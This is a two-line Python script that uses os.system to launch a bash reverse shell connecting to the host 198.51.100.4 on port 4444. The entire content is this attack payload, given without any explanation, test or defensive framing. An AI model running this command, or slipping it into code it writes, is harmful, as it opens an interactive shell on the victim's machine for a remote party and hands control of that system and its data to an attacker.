import os
os.system('bash -i >& /dev/tcp/198.51.100.4/4444 0>&1')
